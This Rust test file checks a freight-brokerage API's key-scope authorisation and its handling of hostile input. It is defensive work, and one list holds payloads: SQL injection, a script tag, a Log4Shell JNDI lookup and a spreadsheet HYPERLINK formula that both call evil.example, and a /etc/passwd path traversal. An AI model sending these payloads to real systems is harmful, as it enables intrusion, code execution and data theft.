//! Every route against every kind of caller, and a fixed corpus of hostile inputs:
//! nothing answers 5xx, nothing is stored that should not be.

use crate::helpers::*;
use serde_json::{json, Value};

#[derive(Clone, Copy, PartialEq)]
enum Needs {
    Agent,
    Dashboard,
    Admin,
    AgentOrDashboard,
}

fn routes() -> Vec<(&'static str, &'static str, Needs, Value)> {
    use Needs::*;
    vec![
        ("POST", "/api/v1/fmcsa/verify", Agent, json!({"mc_number": "700010"})),
        ("POST", "/api/v1/loads/search", Agent, json!({"origin": "Dallas"})),
        (
            "POST",
            "/api/v1/negotiations/evaluate",
            Agent,
            json!({"call_id": "m", "load_id": "H-1", "carrier_offer": 2400}),
        ),
        (
            "POST",
            "/api/v1/calls/handoff",
            Agent,
            json!({"call_id": "m2", "load_id": "H-2", "mc_number": 700010, "agreed_rate": 2000}),
        ),
        ("POST", "/api/v1/calls/finalize", Agent, json!({"call_id": "m3", "outcome": "other", "sentiment": "neutral"})),
        ("POST", "/api/v1/webhooks/happyrobot", Agent, json!({"type": "session.other", "data": {}})),
        ("GET", "/api/v1/loads/H-1", AgentOrDashboard, Value::Null),
        ("GET", "/api/v1/loads", Dashboard, Value::Null),
        ("GET", "/api/v1/calls", Dashboard, Value::Null),
        ("GET", "/api/v1/calls/export.csv", Dashboard, Value::Null),
        ("GET", "/api/v1/calls/m3", Dashboard, Value::Null),
        ("GET", "/api/v1/metrics/summary", Dashboard, Value::Null),
        ("GET", "/api/v1/metrics/timeseries", Dashboard, Value::Null),
        ("GET", "/api/v1/negotiations/policy", Dashboard, Value::Null),
        ("GET", "/api/v1/calls/test", Dashboard, Value::Null),
        ("GET", "/api/v1/session", Dashboard, Value::Null),
        ("POST", "/api/v1/loads", Admin, load("H-3", "Dallas, TX", "Atlanta, GA", "Dry Van", 2, 2000)),
        ("POST", "/api/v1/loads/import", Admin, json!([load("H-4", "Dallas, TX", "Atlanta, GA", "Dry Van", 2, 2000)])),
        ("POST", "/api/v1/bookings/BK-NONE/cancel", Admin, json!({"reason": "test"})),
    ]
}

async fn send(app: &TestApp, method: &str, path: &str, key: Option<&str>, body: &Value) -> u16 {
    let mut req = match method {
        "GET" => app.client.get(app.url(path)),
        _ => app.client.post(app.url(path)).json(body),
    };
    if let Some(k) = key {
        req = req.header("X-API-Key", k);
    }
    req.send().await.unwrap().status().as_u16()
}

#[actix_web::test]
async fn auth_matrix_every_route_every_caller() {
    let app = spawn_app().await;
    app.add_load(load("H-1", "Dallas, TX", "Atlanta, GA", "Dry Van", 2, 2000)).await;
    app.add_load(load("H-2", "Dallas, TX", "Atlanta, GA", "Dry Van", 2, 2000)).await;
    let mut checked = 0;
    for (method, path, needs, body) in routes() {
        assert_eq!(send(&app, method, path, None, &body).await, 401, "{method} {path} without a key");
        assert_eq!(
            send(&app, method, path, Some("not-a-real-key-000000000"), &body).await,
            401,
            "{method} {path} wrong key"
        );
        let wrong: &[&str] = match needs {
            Needs::Agent => &[DASHBOARD_KEY, ADMIN_KEY],
            Needs::Dashboard => &[AGENT_KEY],
            Needs::Admin => &[AGENT_KEY, DASHBOARD_KEY],
            Needs::AgentOrDashboard => &[],
        };
        for k in wrong {
            assert_eq!(send(&app, method, path, Some(k), &body).await, 403, "{method} {path} wrong scope");
        }
        let right = match needs {
            Needs::Agent | Needs::AgentOrDashboard => AGENT_KEY,
            Needs::Dashboard => DASHBOARD_KEY,
            Needs::Admin => ADMIN_KEY,
        };
        let status = send(&app, method, path, Some(right), &body).await;
        assert!(status < 500 && status != 401 && status != 403, "{method} {path} right scope answered {status}");
        checked += 1;
    }
    assert_eq!(checked, routes().len());
}

const NASTY: &[&str] = &[
    "'; DROP TABLE loads; --",
    "\" OR 1=1 --",
    "Robert'); DELETE FROM calls WHERE ('1'='1",
    "<script>alert('x')</script>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "\u{202e}gnp.exe",
    "😀🚚💸",
    "%00%0d%0a",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
];

#[actix_web::test]
async fn hostile_text_never_breaks_anything_and_stays_text() {
    let app = spawn_app().await;
    app.add_load(load("H-1", "Dallas, TX", "Atlanta, GA", "Dry Van", 2, 2000)).await;
    for (i, nasty) in NASTY.iter().enumerate() {
        let bodies = [
            ("/api/v1/fmcsa/verify", json!({"mc_number": nasty, "call_id": nasty})),
            (
                "/api/v1/loads/search",
                json!({"origin": nasty, "destination": nasty, "equipment_type": nasty, "call_id": nasty}),
            ),
            ("/api/v1/negotiations/evaluate", json!({"call_id": nasty, "load_id": nasty, "carrier_offer": nasty})),
            (
                "/api/v1/calls/handoff",
                json!({"call_id": nasty, "load_id": nasty, "mc_number": nasty, "agreed_rate": nasty}),
            ),
            (
                "/api/v1/calls/finalize",
                json!({"call_id": format!("h-{i}"), "carrier_name": nasty, "outcome": nasty,
                "sentiment": nasty, "transcript": nasty, "summary": nasty, "extracted": {"x": nasty}}),
            ),
            ("/api/v1/webhooks/happyrobot", json!({"type": nasty, "data": {"session_id": nasty}})),
        ];
        for (path, body) in bodies {
            let res = app.agent(path, &body).await;
            let status = res.status().as_u16();
            assert!(status < 500, "{path} with {nasty:?} answered {status}");
            let text = res.text().await.unwrap();
            assert!(serde_json::from_str::<Value>(&text).is_ok(), "{path} answered non-JSON: {text}");
        }
    }
    // The catalogue and the tables are intact.
    let (s, l) = json(app.get_as(DASHBOARD_KEY, "/api/v1/loads/H-1").await).await;
    assert_eq!(s, 200, "{l}");
    let (_, calls) = json(app.get_as(DASHBOARD_KEY, "/api/v1/calls?limit=100").await).await;
    let names: Vec<String> = calls["calls"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|c| c["carrier_name"].as_str().map(str::to_string))
        .collect();
    for nasty in NASTY {
        assert!(names.iter().any(|n| n == nasty), "{nasty:?} stored as given");
    }
    // A spreadsheet never runs a stored formula.
    let csv = app.get_as(DASHBOARD_KEY, "/api/v1/calls/export.csv").await.text().await.unwrap();
    assert!(!csv.contains(",=HYPERLINK") && csv.contains("'=HYPERLINK"), "{csv}");
}

#[actix_web::test]
async fn hostile_bodies_get_4xx() {
    let app = spawn_app().await;
    let raw = |body: Vec<u8>| {
        app.client.post(app.url("/api/v1/calls/finalize")).header("X-API-Key", AGENT_KEY).body(body).send()
    };
    // Deeply nested JSON: refused by the parser's depth limit, not a stack overflow.
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    assert_eq!(raw(deep.into_bytes()).await.unwrap().status(), 400);
    let deep = format!("{{\"call_id\": \"d\", \"extracted\": {}1{}}}", "[".repeat(5_000), "]".repeat(5_000));
    assert_eq!(raw(deep.into_bytes()).await.unwrap().status(), 400);
    // Invalid UTF-8.
    assert_eq!(raw(b"{\"call_id\": \"\xff\xfe\"}".to_vec()).await.unwrap().status(), 400);
    // Huge body.
    assert_eq!(raw(vec![b' '; 2 * 1024 * 1024]).await.unwrap().status(), 413);
    // Numbers that cannot be amounts, counts or durations.
    for (field, value) in [
        ("agreed_rate", json!(-1)),
        ("agreed_rate", json!(1e300)),
        ("agreed_rate", json!("NaN")),
        ("agreed_rate", json!("Infinity")),
        ("negotiation_rounds", json!(99)),
        ("negotiation_rounds", json!(-2)),
        ("duration_seconds", json!(1e12)),
        ("duration_seconds", json!(2.5)),
    ] {
        let (s, b) = json(app.agent("/api/v1/calls/finalize", &json!({"call_id": "n", field: value})).await).await;
        assert_eq!(s, 422, "{field}={value}: {b}");
        assert_eq!(b["error"]["field"], field);
    }
    // None of the refused requests left a record.
    let (_, calls) = json(app.get_as(DASHBOARD_KEY, "/api/v1/calls").await).await;
    assert_eq!(calls["calls"].as_array().unwrap().len(), 0);
}

#[actix_web::test]
async fn non_ascii_cursors_are_refused_not_crashed() {
    let app = spawn_app().await;
    for path in ["/api/v1/loads?cursor=%C3%A9%C3%A9", "/api/v1/calls?cursor=%C3%A9a"] {
        let (s, b) = json(app.get_as(DASHBOARD_KEY, path).await).await;
        assert_eq!(s, 422, "{path}: {b}");
        assert_eq!(b["error"]["field"], "cursor");
    }
}

/// Dates at and past the edge of what the date library can represent.
const EDGE_DATES: &[&str] = &["+262142-12-31", "-262142-12-31", "-262143-01-01", "9999-12-31T23:59:59Z"];

/// Whether a person could mean the date (years 1970 to 9999): the others are refused.
fn meaningful(date: &str) -> bool {
    date.starts_with("9999")
}

fn assert_refused_or_fine(what: &str, date: &str, status: u16, body: &Value, field: &str) {
    assert!(status < 500, "{what} with {date}: {status} {body}");
    if !meaningful(date) {
        assert_eq!(status, 422, "{what} with {date}: {body}");
        assert_eq!(body["error"]["field"], field, "{what} with {date}: {body}");
    }
}

#[actix_web::test]
async fn edge_dates_are_refused_on_every_route_that_takes_a_date() {
    let app = spawn_app().await;
    app.add_load(load("H-1", "Dallas, TX", "Atlanta, GA", "Dry Van", 2, 2000)).await;
    for (n, date) in EDGE_DATES.iter().enumerate() {
        let encoded = url_escape(date);
        for path in
            ["/api/v1/calls", "/api/v1/calls/export.csv", "/api/v1/metrics/summary", "/api/v1/metrics/timeseries"]
        {
            for field in ["from", "to"] {
                let url = format!("{path}?{field}={encoded}");
                let res = app.get_as(DASHBOARD_KEY, &url).await;
                let status = res.status().as_u16();
                let text = res.text().await.unwrap();
                let body: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
                if path.ends_with(".csv") && status == 200 {
                    assert!(meaningful(date), "{url} answered 200");
                    continue;
                }
                assert_refused_or_fine(&url, date, status, &body, field);
            }
        }

        let (s, b) =
            json(app.agent("/api/v1/loads/search", &json!({"origin": "Dallas", "pickup_date": date})).await).await;
        assert_refused_or_fine("loads/search", date, s, &b, "pickup_date");

        for field in ["started_at", "ended_at", "callback_at"] {
            let body = json!({"call_id": format!("edge-{n}-{field}"), field: date});
            let (s, b) = json(app.agent("/api/v1/calls/finalize", &body).await).await;
            assert_refused_or_fine(&format!("finalize {field}"), date, s, &b, field);
        }

        let event = json!({"type": "session.status_changed", "time": date,
            "data": {"session_id": format!("edge-{n}"), "status": {"previous": "queued", "current": "in-progress"}}});
        let (s, b) = json(app.agent("/api/v1/webhooks/happyrobot", &event).await).await;
        assert_refused_or_fine("webhook time", date, s, &b, "time");

        for field in ["pickup_datetime", "delivery_datetime"] {
            let mut row = load(&format!("E-{n}-{field}"), "Dallas, TX", "Atlanta, GA", "Dry Van", 2, 2000);
            row[field] = json!(date);
            let (s, b) = json(app.admin("/api/v1/loads", &row).await).await;
            assert_refused_or_fine(&format!("loads {field}"), date, s, &b, field);
            let (s, b) = json(app.admin("/api/v1/loads/import", &json!([row])).await).await;
            assert!(s < 500, "import {field} with {date}: {s} {b}");
            if !meaningful(date) {
                assert!(b.to_string().contains(&format!("\"{field}\"")), "import {field} with {date}: {b}");
            }
        }
    }
    // The workers survived: the service still answers.
    let (s, _) = json(app.get_as(DASHBOARD_KEY, "/api/v1/calls").await).await;
    assert_eq!(s, 200);
}

fn url_escape(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            '+' => "%2B".to_string(),
            ':' => "%3A".to_string(),
            c => c.to_string(),
        })
        .collect()
}
